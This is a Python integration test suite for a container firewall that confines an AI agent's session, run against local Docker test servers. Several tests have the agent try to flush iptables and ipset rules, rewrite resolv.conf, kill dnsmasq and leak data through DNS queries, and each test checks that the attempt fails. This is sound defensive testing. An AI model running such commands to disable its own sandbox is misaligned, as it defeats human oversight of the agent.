"""The session firewall on the real engine.

Traffic goes only to containers this module starts on its own Docker network: a server
reachable as `allowed.test` and one as `blocked.test` (both `python3 -m http.server` in the
claudex image, dual-stack), and the session itself. Probes run as the agent user.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import pytest

from container import firewall
from container.errors import ClaudexError
from container.mounts import plan_mounts
from container.session_spec import StartRequest
from container.sessions import Sessions
from tests.integration.conftest import REPO, Result, exec_in
from tests.waiting import wait_for

AGENT = "4242"
PORT = 8000
TAG = secrets.token_hex(3)
# Not the shared test prefix: a parallel pytest run removes those containers when it ends.
PREFIX = f"claudexfw-{TAG}"
NET = PREFIX
SESSION = f"{PREFIX}-session"


def run_cli(*args: str, timeout: float = 180) -> Result:
    proc = subprocess.run(
        [sys.executable, "-m", "claudex_tui.cli", *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
        stdin=subprocess.DEVNULL,
    )
    return Result(proc.returncode, proc.stdout, proc.stderr)


def _remove_ours(engine: docker.DockerClient) -> None:
    for c in engine.containers.list(all=True, filters={"name": f"^/{PREFIX}-"}):
        c.remove(force=True, v=True)


@pytest.fixture(scope="module", autouse=True)
def _cleanup(engine: docker.DockerClient) -> Iterator[None]:
    yield
    _remove_ours(engine)


@pytest.fixture(scope="module")
def net(engine: docker.DockerClient, image: str) -> Iterator[dict[str, Any]]:
    """Our own dual-stack network with the two servers; addresses of each."""
    subnet6 = f"fd00:c1a0:{secrets.randbits(16):x}::/64"
    ipam = docker.types.IPAMConfig(pool_configs=[docker.types.IPAMPool(subnet=subnet6)])
    network = engine.networks.create(NET, driver="bridge", enable_ipv6=True, ipam=ipam)
    servers = {}
    try:
        for alias in ("allowed.test", "blocked.test"):
            c = engine.containers.create(
                image,
                entrypoint=["python3", "-m", "http.server", str(PORT), "--bind", "::"],
                name=f"{PREFIX}-{alias.split('.')[0]}",
                user="nobody",
                detach=True,
            )
            network.connect(c, aliases=[alias])
            c.start()
            servers[alias] = c
        info: dict[str, Any] = {"network": NET}
        for alias, c in servers.items():
            c.reload()
            ep = c.attrs["NetworkSettings"]["Networks"][NET]
            info[alias] = (ep["IPAddress"], ep["GlobalIPv6Address"])
            assert info[alias][0] and info[alias][1], ep
        for alias, c in servers.items():  # listening before any test talks to it
            wait_for(
                f"{alias}'s server to listen",
                lambda c=c: (
                    c.exec_run(["bash", "-c", f": </dev/tcp/127.0.0.1/{PORT}"]).exit_code == 0
                ),
            )
        yield info
    finally:
        _remove_ours(engine)  # the session too: a network in use cannot be removed
        network.remove()


@pytest.fixture(scope="module")
def session(
    net: dict[str, Any], tmp_path_factory: pytest.TempPathFactory, engine: docker.DockerClient
) -> str:
    proj = tmp_path_factory.mktemp("fw") / "proj"
    proj.mkdir()
    os.chown(proj, int(AGENT), int(AGENT))
    res = run_cli(
        str(proj), "--name", SESSION, "-d", "--agent", "shell",
        "--network", NET, "--allow", "allowed.test",
    )  # fmt: skip
    assert res.code == 0, res.text
    return SESSION


def agent(engine: docker.DockerClient, name: str, cmd: str) -> tuple[int, str]:
    return exec_in(engine, name, cmd, user=AGENT)


def py(engine: docker.DockerClient, name: str, code: str) -> tuple[int, str]:
    return agent(engine, name, f"python3 - <<'EOF'\n{code}\nEOF")


CONNECT = """
import socket, sys, time
def connect(host, port, family=0):
    t = time.monotonic()
    try:
        info = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
        s = socket.socket(info[0], socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(info[4])
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        answer = s.recv(12).decode()
        s.close()
        return answer, time.monotonic() - t
    except OSError as exc:
        return type(exc).__name__, time.monotonic() - t
"""


def connect(
    engine: docker.DockerClient, name: str, host: str, family: str = "0"
) -> tuple[str, float]:
    code, out = py(
        engine, name, CONNECT + f"r = connect({host!r}, {PORT}, {family})\nprint(r[0], r[1])"
    )
    assert code == 0, out
    what, seconds = out.strip().rsplit(" ", 1)
    return what, float(seconds)


def status(name: str) -> dict[str, Any]:
    res = run_cli("firewall", "status", name, "--format", "json")
    assert res.code in (0, 1), res.text
    data: dict[str, Any] = json.loads(res.out)
    return data


def allowed_set_members(engine: docker.DockerClient, name: str, domain: str) -> list[str]:
    code, out = exec_in(engine, name, "/usr/local/lib/claudex/firewall.sh status")
    assert code == 0, out
    sets = [line.split()[1:] for line in out.splitlines() if line.startswith(domain + " cx4-")]
    assert sets, out
    code, out = exec_in(
        engine, name, f"ipset list -o save {sets[0][0]}; ipset list -o save {sets[0][1]}"
    )
    return [line.split()[2] for line in out.splitlines() if line.startswith("add ")]


# -- the tests, in the order they run on the one session ------------------------------------------


def test_first_connection_to_a_newly_resolved_name_succeeds(
    session: str, engine: docker.DockerClient
):
    # Nothing resolved allowed.test yet: its set is empty, so only dnsmasq's ipset step,
    # done before the answer reaches the client, can let this first connection through.
    assert allowed_set_members(engine, session, "allowed.test") == []
    what, _ = connect(engine, session, "allowed.test", "socket.AF_INET")
    assert what == "HTTP/1.0 200"
    what, _ = connect(engine, session, "allowed.test", "socket.AF_INET6")
    assert what == "HTTP/1.0 200"
    assert len(allowed_set_members(engine, session, "allowed.test")) == 2


def test_blocked_name_does_not_resolve_and_its_address_is_rejected_at_once(
    session: str, engine: docker.DockerClient, net: dict[str, Any]
):
    code, out = agent(engine, session, "getent hosts blocked.test")
    assert code != 0 and not out.strip()
    v4, v6 = net["blocked.test"]
    what, seconds = connect(engine, session, v4)
    assert what == "ConnectionRefusedError" and seconds < 1
    what, seconds = connect(engine, session, v6)
    assert what == "ConnectionRefusedError" and seconds < 1


def test_dns_only_through_the_firewall(session: str, engine: docker.DockerClient):
    code, out = py(
        engine,
        session,
        """
import socket
name = b"\\x07allowed\\x04test\\x00"
query = bytes.fromhex("123401000001000000000000") + name + b"\\x00\\x01\\x00\\x01"
for server in ("127.0.0.11",):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
    try:
        u.sendto(query, (server, 53)); print("udp answered", len(u.recv(512)))
    except OSError as exc:
        print("udp", type(exc).__name__)
    t = socket.socket(); t.settimeout(1)
    try:
        t.connect((server, 53)); print("tcp connected")
    except OSError as exc:
        print("tcp", type(exc).__name__)
# the local dnsmasq answers allowed names
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
u.sendto(query, ("127.0.0.1", 53)); print("local answered", len(u.recv(512)) > 12)
""",
    )
    assert code == 0, out
    lines = out.strip().splitlines()
    assert not any("answered" in x for x in lines[:2]), out
    assert "tcp connected" not in out
    assert lines[-1] == "local answered True"


def test_agent_cannot_change_the_rules(session: str, engine: docker.DockerClient):
    before = exec_in(engine, session, "iptables-save -t filter | grep -v '^#'; ipset list -n")
    for cmd in (
        "iptables -F",
        "ip6tables -F",
        "ipset flush",
        "echo nameserver 1.1.1.1 > /etc/resolv.conf",
        "kill $(pgrep dnsmasq)",
    ):
        code, out = agent(engine, session, cmd)
        assert code != 0, (cmd, out)
    after = exec_in(engine, session, "iptables-save -t filter | grep -v '^#'; ipset list -n")
    assert before == after


def test_inbound_connections_are_refused(
    session: str, engine: docker.DockerClient, net: dict[str, Any]
):
    agent(engine, session, "nohup python3 -m http.server 9000 >/dev/null 2>&1 &")
    wait_for(
        "the agent's server to answer on loopback (loopback works)",
        lambda: (
            agent(engine, session, "curl -s -o /dev/null -w '%{http_code}' localhost:9000")[1]
            == "200"
        ),
    )
    ip = engine.api.inspect_container(session)["NetworkSettings"]["Networks"][NET]["IPAddress"]
    server = engine.containers.get(f"{PREFIX}-blocked")
    result = server.exec_run(
        ["python3", "-c", f"import socket; socket.create_connection(('{ip}', 9000), 2)"]
    )
    assert result.exit_code != 0 and b"ConnectionRefusedError" in result.output


def test_live_allow_and_deny(session: str, engine: docker.DockerClient):
    started = engine.api.inspect_container(session)["State"]["StartedAt"]
    res = run_cli("firewall", "allow", session, "blocked.test")
    assert res.code == 0, res.text
    what, _ = connect(engine, session, "blocked.test")
    assert what == "HTTP/1.0 200"
    # Live: the session was not restarted for it.
    assert engine.api.inspect_container(session)["State"]["StartedAt"] == started

    # A connection opened while allowed is cut when the name is denied. The agent's program
    # sends its request once the test has denied the name (a flag file), not after a delay.
    agent(
        engine,
        session,
        "rm -f /tmp/cut.go; (exec 3<>/dev/tcp/blocked.test/8000 && echo open "
        "&& until [ -e /tmp/cut.go ]; do sleep 0.05; done "
        "&& printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 10 head -c 12 <&3; echo; echo done) "
        ">/tmp/cut.out 2>&1 &",
    )
    wait_for("the connection open", lambda: "open" in agent(engine, session, "cat /tmp/cut.out")[1])
    res = run_cli("firewall", "deny", session, "blocked.test")
    assert res.code == 0, res.text
    agent(engine, session, "touch /tmp/cut.go")

    def ended() -> str:
        out = agent(engine, session, "cat /tmp/cut.out")[1]
        return out if "done" in out else ""

    cut = wait_for("the program to end", ended)
    assert "open" in cut and "done" in cut and "HTTP" not in cut, cut
    code, _out = agent(engine, session, "getent hosts blocked.test")
    assert code != 0
    what, _seconds = connect(engine, session, "blocked.test")
    assert what == "gaierror"
    assert status(session)["allowed"][-1]["name"] == "allowed.test"

    res = run_cli("firewall", "deny", session, "api.allowed.test")
    assert res.code == 2 and "allowed through allowed.test" in res.err
    res = run_cli("firewall", "allow", session, "not a domain")
    assert res.code == 2 and "not a domain name" in res.err and "Traceback" not in res.text


def test_status_lists_the_blocked_attempts(
    session: str, engine: docker.DockerClient, net: dict[str, Any]
):
    data = status(session)
    assert data["mode"] == "enforcing"
    v4, v6 = net["blocked.test"]
    blocked = {(b["address"], b["protocol"], b["port"]): b for b in data["blocked"]}
    for key in ((v4, "tcp", PORT), (v6, "tcp", PORT), ("127.0.0.11", "udp", 53)):
        assert key in blocked, (key, data["blocked"])
        assert blocked[key]["count"] >= 1 and blocked[key]["last"]
    assert blocked[(v4, "tcp", PORT)]["count"] == 1  # one connection attempt, one count
    refused = {r["name"]: r for r in data["refused_names"]}
    assert refused["blocked.test"]["count"] >= 1
    allowed = {a["name"]: a["addresses"] for a in data["allowed"]}
    assert sorted(allowed["allowed.test"]) == sorted(net["allowed.test"])
    table = run_cli("firewall", "status", session)
    assert table.code == 0 and v4 in table.out and "blocked.test" in table.out


def test_restart_reapplies_before_the_agent_and_keeps_live_edits(
    session: str, engine: docker.DockerClient, net: dict[str, Any]
):
    assert run_cli("firewall", "allow", session, "10.255.255.0/24:443").code == 0
    engine.api.restart(session, timeout=1)
    Sessions(engine).wait_ready(session, session)
    # dnsmasq is started by the firewall step; the agent's first process only after it.
    _code, out = exec_in(
        engine,
        session,
        f"for p in $(pgrep -x dnsmasq) $(pgrep -o -u {AGENT}); do "
        "sed 's/.*) //' /proc/$p/stat | awk '{print $20}'; done",
    )
    dns_start, agent_start = (int(x) for x in out.split())
    assert 0 < dns_start <= agent_start
    assert exec_in(engine, session, "cat /run/claudex/firewall")[1].strip() == "enforcing"
    what, seconds = connect(engine, session, net["blocked.test"][0])
    assert what == "ConnectionRefusedError" and seconds < 1
    assert connect(engine, session, "allowed.test")[0] == "HTTP/1.0 200"
    assert "10.255.255.0/24:443" in status(session)["networks"]


def test_host_network_session_is_unrestricted_and_leaves_the_host_alone(
    tmp_path: Path, engine: docker.DockerClient, image: str
):
    def host_rules() -> str:
        out = []
        for tool in ("iptables-save", "ip6tables-save"):
            text = subprocess.run([tool], capture_output=True, text=True, check=True).stdout
            out += [line for line in text.splitlines() if not line.startswith("#")]
        return "\n".join(out)

    proj = tmp_path / "hostnet"
    proj.mkdir()
    os.chown(proj, int(AGENT), int(AGENT))
    before = host_rules()
    name = f"{PREFIX}-host"
    res = run_cli(str(proj), "--name", name, "-d", "--agent", "shell", "--host-network")
    assert res.code == 0, res.text
    assert "NO firewall" in res.err
    data = status(name)
    assert data["mode"] == "unrestricted"
    assert "UNRESTRICTED" in run_cli("firewall", "status", name).out
    assert host_rules() == before
    res = run_cli("firewall", "allow", name, "example.com")
    assert res.code == 1 and "host network" in res.err


def test_rules_that_cannot_be_applied_keep_the_agent_from_starting(
    tmp_path: Path, engine: docker.DockerClient, image: str, monkeypatch: pytest.MonkeyPatch
):
    # A session whose container lacks NET_ADMIN: the firewall cannot be applied.
    real = engine.api.create_host_config

    def without_net_admin(**kwargs: Any) -> Any:
        kwargs["cap_add"] = [c for c in kwargs["cap_add"] if c != "NET_ADMIN"]
        return real(**kwargs)

    monkeypatch.setattr(engine.api, "create_host_config", without_net_admin)
    proj = tmp_path / "failing"
    proj.mkdir()
    os.chown(proj, int(AGENT), int(AGENT))
    name = f"{PREFIX}-fail"
    req = StartRequest(plan=plan_mounts([str(proj)]), name=name, agent="shell")
    with pytest.raises(ClaudexError) as err:
        Sessions(engine).start_session(req)
    assert "firewall could not be applied" in err.value.message
    assert "the agent was not started" in err.value.message
    _code, out = exec_in(engine, name, f"pgrep -u {AGENT} || echo no-agent")
    assert out.strip() == "no-agent"
    data = status(name)
    assert data["mode"] == "failed" and "ipset" in data["reason"]
    res = run_cli(str(proj), "--name", name, "-d", "--agent", "shell")
    assert res.code != 0 and "firewall could not be applied" in res.err
    assert "Traceback" not in res.text


def test_project_file_widens_the_sandbox_only_once_confirmed(
    net: dict[str, Any], tmp_path: Path, engine: docker.DockerClient
):
    proj = tmp_path / "widening"
    proj.mkdir()
    (proj / ".claudex.toml").write_text('[firewall]\nallow = ["blocked.test"]\n')
    os.chown(proj, int(AGENT), int(AGENT))
    name = f"{PREFIX}-project"
    args = (str(proj), "--name", name, "-d", "--agent", "shell", "--network", NET)
    res = run_cli(*args)
    assert res.code == 0, res.text
    assert "asks the firewall to allow: blocked.test; ignored" in res.err
    assert "blocked.test" not in status(name)["allowed"].__repr__()
    assert connect(engine, name, "blocked.test")[0] == "gaierror"

    # Confirmed once (on a terminal, or through the API the dashboard uses): applied.
    (found,) = firewall.read_project_allow([str(proj)])
    firewall.trust(found)
    res = run_cli(*args, "--replace")
    assert res.code == 0 and "asks the firewall" not in res.err, res.text
    assert connect(engine, name, "blocked.test")[0] == "HTTP/1.0 200"


DNS_SERVER = """
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 53))
while True:
    data, peer = s.recvfrom(512)
    i, labels = 12, []
    while data[i]:
        labels.append(data[i + 1 : i + 1 + data[i]].decode())
        i += data[i] + 1
    qtype = struct.unpack(">H", data[i + 1 : i + 3])[0]
    print(".".join(labels), qtype, flush=True)
    answer = b""
    if qtype == 1:
        answer = b"\\xc0\\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("10.99.0.7")
    head = struct.pack(">HHHHHH", data[0] << 8 | data[1], 0x8180, 1, 1 if answer else 0, 0, 0)
    s.sendto(head + data[12 : i + 5] + answer, peer)
"""


def test_names_outside_docker_resolve_through_the_engines_upstream(
    net: dict[str, Any],
    tmp_path: Path,
    engine: docker.DockerClient,
    image: str,
    monkeypatch: pytest.MonkeyPatch,
):
    # Our own "host resolver": the engine's embedded DNS forwards names it does not know
    # to it, from sockets the engine opens inside the session's network namespace.
    server = engine.containers.run(
        image, ["python3", "-c", DNS_SERVER], entrypoint=[], name=f"{PREFIX}-dns",
        network=NET, detach=True,
    )  # fmt: skip
    server.reload()
    dns_ip = server.attrs["NetworkSettings"]["Networks"][NET]["IPAddress"]
    real = engine.api.create_host_config

    def with_dns(**kwargs: Any) -> Any:
        return real(**kwargs, dns=[dns_ip])

    monkeypatch.setattr(engine.api, "create_host_config", with_dns)
    proj = tmp_path / "outside"
    proj.mkdir()
    os.chown(proj, int(AGENT), int(AGENT))
    name = f"{PREFIX}-outside"
    req = StartRequest(
        plan=plan_mounts([str(proj)]), name=name, agent="shell", network=NET,
        allow=["outside.example"],
    )  # fmt: skip
    Sessions(engine).start_session(req)
    code, out = agent(engine, name, "getent ahostsv4 www.outside.example")
    assert code == 0 and "10.99.0.7" in out, out
    code, out = agent(engine, name, "getent hosts exfil-secret.elsewhere.example")
    assert code != 0
    blocked = status(name)["blocked"]
    assert not [b for b in blocked if b["port"] == 53], blocked  # the engine's path is open
    # Straight to that upstream resolver: no answer (rejected at once).
    code, out = py(
        engine,
        name,
        f"""
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
try:
    u.sendto(bytes.fromhex("abcd01000001000000000000") + b"\\x04leak\\x00\\x00\\x01\\x00\\x01",
             ("{dns_ip}", 53))
    print("answered", u.recv(512))
except OSError as exc:
    print("no answer", type(exc).__name__)
""",
    )
    assert out.startswith("no answer"), out
    asked = server.logs().decode()
    assert "leak" not in asked
    assert "www.outside.example 1" in asked
    assert "elsewhere" not in asked  # refused names never leave the session
